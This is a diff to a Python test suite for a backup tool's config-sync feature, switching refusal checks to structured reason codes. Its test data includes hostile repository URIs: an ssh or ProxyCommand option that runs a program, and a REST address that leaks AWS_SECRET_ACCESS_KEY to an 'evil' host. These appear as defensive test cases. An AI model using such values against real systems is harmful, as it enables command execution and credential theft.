@@ -6,6 +6,7 @@ import pytest
 
 from backrest import wire
 from backrest.permissions import parse_grant
+from backrest.refusals import Why, refusal
 from backrest.store.configfile import size
 from backrest.sync import apply
 from backrest.sync.apply import Report, SetConfig, apply_set_config
@@ -68,27 +69,28 @@ def test_a_later_push_changes_the_repo_that_came_from_the_same_hub() -> None:
 @pytest.mark.parametrize(
     ("grants", "fields", "reason"),
     [
-        ([], {}, "not granted"),
-        (["read-operations=*"], {}, "not granted"),
-        (["receive-shared-repos"], {"guid": A}, "same guid"),
-        (["receive-shared-repos"], {"id": "local"}, "same id"),
-        (["receive-shared-repos"], {"uri": "/srv/local"}, "same address"),
-        (["receive-shared-repos"], {"guid": ""}, "no guid"),
-        (["read-write-config=repo:nas"], {"guid": A}, "same guid"),
-        (["receive-shared-repos"], {"uri": "rclone::sftp,ssh=evil:/x"}, "run a program"),
-        (["receive-shared-repos"], {"uri": "rest:https://evil/${AWS_SECRET_ACCESS_KEY}"}, "environment"),
-        (["receive-shared-repos"], {"uri": "sftp:-oProxyCommand=evil:/x"}, "run a program"),
+        ([], {}, Why.SHARE_NOT_GRANTED),
+        (["read-operations=*"], {}, Why.SHARE_NOT_GRANTED),
+        (["receive-shared-repos"], {"guid": A}, Why.SAME_GUID),
+        (["receive-shared-repos"], {"id": "local"}, Why.SAME_ID),
+        (["receive-shared-repos"], {"uri": "/srv/local"}, Why.SAME_ADDRESS),
+        (["receive-shared-repos"], {"guid": ""}, Why.NO_GUID),
+        (["read-write-config=repo:nas"], {"guid": A}, Why.SAME_GUID),
+        (["receive-shared-repos"], {"uri": "rclone::sftp,ssh=evil:/x"}, Why.RUNS_PROGRAM),
+        (["receive-shared-repos"], {"uri": "rest:https://evil/${AWS_SECRET_ACCESS_KEY}"}, Why.RUNS_PROGRAM),
+        (["receive-shared-repos"], {"uri": "sftp:-oProxyCommand=evil:/x"}, Why.RUNS_PROGRAM),
     ],
 )
 def test_what_is_not_allowed_is_skipped_with_a_reason(
-    grants: list[str], fields: dict[str, str], reason: str
+    grants: list[str], fields: dict[str, str], reason: Why
 ) -> None:
     here = config()
     report = push(here, grants, shared(**fields))
     assert not report.changed
     assert here == config()
-    [sentence] = report.refused
-    assert reason in sentence
+    [refused] = report.refused
+    assert (refused.kind, refused.code) == ("repo", reason)
+    assert refused.is_about("repo", str(fields.get("id", "nas")))
 
 
 def test_a_repo_of_another_hub_is_not_taken_over() -> None:
@@ -96,7 +98,8 @@ def test_a_repo_of_another_hub_is_not_taken_over() -> None:
     here.repos.add(id="theirs", uri="/srv/theirs", guid=B, origin_instance_id="other")
     report = push(here, ["receive-shared-repos"], shared())
     assert not report.changed
-    assert "other" in report.refused[0]
+    assert report.refused == [refusal("repo", "nas", Why.SHARED_BY_OTHER, hub="other")]
+    assert report.told == [refusal("repo", "nas", Why.SHARED_BY_OTHER)]
 
 
 def test_a_hub_limited_to_one_repo_cannot_reach_another_by_its_guid() -> None:
@@ -130,8 +133,10 @@ def test_what_would_run_programs_is_stripped_from_a_shared_repo() -> None:
     taken = here.repos[1]
     assert (list(taken.env), list(taken.flags), len(taken.hooks)) == (["AWS_KEY=1"], ["--no-cache"], 0)
     assert not taken.HasField("command_prefix")
-    assert "hooks" in report.refused[0]
-    assert "RESTIC_PASSWORD_COMMAND" in report.refused[0]
+    assert report.refused[0].code is Why.LEFT_OUT
+    assert "hooks" in report.refused[0].words()
+    assert "RESTIC_PASSWORD_COMMAND" in report.refused[0].words()
+    assert report.done == 1
     trusted = config()
     push(trusted, ["receive-shared-repos", "read-write-config=*"], message)
     assert len(trusted.repos[1].hooks) == 1
@@ -143,7 +148,7 @@ def test_a_client_of_ours_shares_nothing_with_us_and_writes_local_repos_where_it
     for grants in (["receive-shared-repos"], ["receive-shared-repos", "read-write-config=repo:x"]):
         report = push(here, grants, shared())
         assert not report.changed
-        assert "READ_WRITE_CONFIG is not granted" in report.refused[0]
+        assert report.refused == [refusal("repo", "nas", Why.WRITE_NOT_GRANTED)]
     assert push(here, ["read-write-config=*"], shared()).changed
     assert (here.repos[1].id, here.repos[1].origin_instance_id) == ("nas", "")
 
@@ -164,7 +169,8 @@ def test_items_are_judged_one_by_one_and_what_passes_is_applied() -> None:
 def test_deleting_needs_write_permission_and_an_unused_repo() -> None:
     here = config()
     assert not push(here, ["receive-shared-repos"], SetConfig(repos_to_delete=["local"])).changed
-    assert "photos" in push(here, ["read-write-config=*"], SetConfig(repos_to_delete=["local"])).refused[0]
+    used = push(here, ["read-write-config=*"], SetConfig(repos_to_delete=["local"]))
+    assert used.refused == [refusal("repo", "local", Why.IN_USE, plans=["photos"])]
     both = SetConfig(repos_to_delete=["local"], plans_to_delete=["photos", "never was"])
     assert push(here, ["read-write-config=*"], both).changed
     assert not here.repos
@@ -183,7 +189,7 @@ def test_a_peer_can_fill_the_configuration_to_the_bound_and_no_further(
     monkeypatch.setattr(apply, "TOTAL_BYTES", used + size(nas))
     report = push(here, ["receive-shared-repos"], shared(password="pp"))
     assert not report.changed
-    assert report.refused == report.told == ["repo 'nas': the configuration here would be larger than 16 MiB"]
+    assert report.refused == report.told == [refusal("repo", "nas", Why.NO_ROOM, limit=0)]
     assert (report.done, here) == (0, config())
     assert push(here, ["receive-shared-repos"], shared()).changed
     assert not push(here, ["receive-shared-repos"], shared(password="pp")).changed, "it may not grow"
@@ -192,7 +198,7 @@ def test_a_peer_can_fill_the_configuration_to_the_bound_and_no_further(
     assert push(here, ["receive-shared-repos"], shared(password="")).changed, "smaller, and still too much"
     monkeypatch.setattr(apply, "TOTAL_BYTES", used + size(here.repos[1]))
     plans = ["read-write-config=*"]
-    assert "larger than" in push(here, plans, SetConfig(plans=[Plan(id="p", repo="local")])).refused[0]
+    assert push(here, plans, SetConfig(plans=[Plan(id="p", repo="local")])).refused[0].code is Why.NO_ROOM
     assert push(here, plans, SetConfig(plans=[Plan(id="photos", repo="local")])).changed, (
         "smaller than it was"
     )
@@ -211,7 +217,7 @@ def test_a_hub_that_shares_without_end_is_refused_item_by_item() -> None:
         report = push(here, ["receive-shared-repos"], SetConfig(repos=repos))
         taken = 0 if part else apply.TOTAL_BYTES // size(repos[0])
         assert (report.done, len(report.refused)) == (taken, 70 - taken)
-        assert "larger than 16 MiB" in report.told[-1]
+        assert report.told[-1].code is Why.NO_ROOM
     assert sum(map(size, here.repos)) <= apply.TOTAL_BYTES
     assert push(here, ["receive-shared-repos"], shared()).changed, "what is small still has its place"
 
